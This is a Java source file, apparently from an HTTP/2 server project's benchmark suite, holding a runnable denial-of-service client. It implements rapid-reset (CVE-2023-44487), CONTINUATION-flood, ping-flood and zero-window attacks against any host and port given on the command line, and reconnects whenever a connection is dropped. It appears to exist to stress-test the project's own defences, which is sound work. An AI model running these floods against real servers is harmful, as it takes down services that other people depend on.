package io.forebay.benchmarks.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Clients that speak HTTP/2 by prior knowledge to do harm. Each keeps a number of connections busy
 * for a while, beginning a new one whenever one is ended by the other side. A program of its own,
 * so that it can be given a CPU and a bound:
 *
 * <pre>
 * java -cp benchmarks/target/benchmarks.jar io.forebay.benchmarks.attack.Http2Attack \\
 *     rapid-reset 127.0.0.1:8080 20
 * </pre>
 */
final class Http2Attack {

  private static final String PATH = "/attacked";
  private static final int CONNECT_MILLIS = 2_000;
  private static final int BATCH = 100;

  /** Stream numbers end here; a connection with more of them begins anew. */
  private static final int LAST_STREAM = Integer.MAX_VALUE - 2 * BATCH;

  /** What is done, over how many connections at once. */
  enum Kind {
    /** Requests, each taken back at once (CVE-2023-44487). */
    RAPID_RESET("rapid-reset", 8),
    /** A header block that never ends, in frames that bring nothing. */
    CONTINUATIONS("continuation-flood", 8),
    /** Pings, the answers to which are never read. */
    PINGS("ping-flood", 8),
    /** A hundred requests for large bodies, none of which is ever taken. */
    NO_WINDOW("window-zero", 200);

    final String word;
    final int connections;

    Kind(String word, int connections) {
      this.word = word;
      this.connections = connections;
    }

    static Kind of(String word) {
      for (Kind kind : values()) {
        if (kind.word.equals(word)) {
          return kind;
        }
      }
      throw new IllegalArgumentException("no attack is named " + word);
    }
  }

  private final Kind kind;
  private final InetSocketAddress target;
  private final String authority;
  private final long endNanos;
  private final AtomicLong connections = new AtomicLong();
  private final AtomicLong frames = new AtomicLong();
  private final AtomicLong ended = new AtomicLong();

  private Http2Attack(Kind kind, InetSocketAddress target, long endNanos) {
    this.kind = kind;
    this.target = target;
    this.authority = target.getHostString() + ":" + target.getPort();
    this.endNanos = endNanos;
  }

  public static void main(String[] arguments) throws InterruptedException {
    Kind kind = Kind.of(arguments[0]);
    int colon = arguments[1].lastIndexOf(':');
    InetSocketAddress target =
        new InetSocketAddress(
            arguments[1].substring(0, colon), Integer.parseInt(arguments[1].substring(colon + 1)));
    long seconds = Long.parseLong(arguments[2]);
    Http2Attack attack =
        new Http2Attack(kind, target, System.nanoTime() + seconds * 1_000_000_000L);
    attack.run();
    System.out.printf(
        "%d frames, %d connections, %d ended by the other side%n",
        attack.frames.get(), attack.connections.get(), attack.ended.get());
  }

  private void run() throws InterruptedException {
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < kind.connections; i++) {
      threads.add(Thread.ofPlatform().daemon().start(this::keepBusy));
    }
    for (Thread thread : threads) {
      long left = (endNanos - System.nanoTime()) / 1_000_000;
      // A write into a connection that the other side does not read ends with the process.
      thread.join(Math.max(1, left));
    }
  }

  private boolean isOver() {
    return System.nanoTime() >= endNanos;
  }

  private void keepBusy() {
    while (!isOver()) {
      try (Socket socket = new Socket()) {
        socket.connect(target, CONNECT_MILLIS);
        socket.setTcpNoDelay(true);
        connections.incrementAndGet();
        attack(socket);
      } catch (IOException endedByThem) {
        // That is what is hoped for; the next connection shows whether they still take any.
        ended.incrementAndGet();
      }
    }
  }

  private void attack(Socket socket) throws IOException {
    OutputStream out = socket.getOutputStream();
    switch (kind) {
      case RAPID_RESET -> {
        out.write(new Http2Frames().preface().bytes());
        readAside(socket);
        for (int stream = 1; stream < LAST_STREAM && !isOver(); stream += 2 * BATCH) {
          send(out, resets(stream), 2 * BATCH);
        }
      }
      case CONTINUATIONS -> {
        byte[] begin =
            new Http2Frames()
                .preface()
                .frame(
                    Http2Frames.HEADERS,
                    Http2Frames.END_STREAM,
                    1,
                    Http2Frames.fields(authority, PATH))
                .bytes();
        out.write(begin);
        byte[] more = repeated(Http2Frames.CONTINUATION, 1, new byte[0]);
        while (!isOver()) {
          send(out, more, BATCH);
        }
      }
      case PINGS -> {
        out.write(new Http2Frames().preface().bytes());
        byte[] pings = repeated(Http2Frames.PING, 0, new byte[8]);
        while (!isOver()) {
          send(out, pings, BATCH);
        }
      }
      case NO_WINDOW -> {
        Http2Frames requests = new Http2Frames().prefaceWithoutWindow();
        for (int i = 0; i < BATCH; i++) {
          requests.get(1 + 2 * i, authority, "/large");
        }
        send(out, requests.bytes(), BATCH);
        readToEnd(socket.getInputStream());
      }
    }
  }

  private byte[] resets(int firstStream) {
    Http2Frames batch = new Http2Frames();
    byte[] cancel = {0, 0, 0, 8};
    for (int i = 0; i < BATCH; i++) {
      int stream = firstStream + 2 * i;
      batch.get(stream, authority, PATH + stream);
      batch.frame(Http2Frames.RST_STREAM, Http2Frames.NO_FLAGS, stream, cancel);
    }
    return batch.bytes();
  }

  private static byte[] repeated(int type, int stream, byte[] payload) {
    Http2Frames batch = new Http2Frames();
    for (int i = 0; i < BATCH; i++) {
      batch.frame(type, Http2Frames.NO_FLAGS, stream, payload);
    }
    return batch.bytes();
  }

  private void send(OutputStream out, byte[] batch, int count) throws IOException {
    out.write(batch);
    frames.addAndGet(count);
  }

  /** A client that does not read would be stopped by a full socket buffer, not by a limit. */
  private static void readAside(Socket socket) throws IOException {
    InputStream in = socket.getInputStream();
    Thread.ofPlatform()
        .daemon()
        .start(() -> {
          try {
            readToEnd(in);
          } catch (IOException closed) {
            // The writing side finds out by itself.
            return;
          }
        });
  }

  private static void readToEnd(InputStream in) throws IOException {
    byte[] into = new byte[8192];
    int read = 0;
    while (read >= 0) {
      read = in.read(into);
    }
  }
}
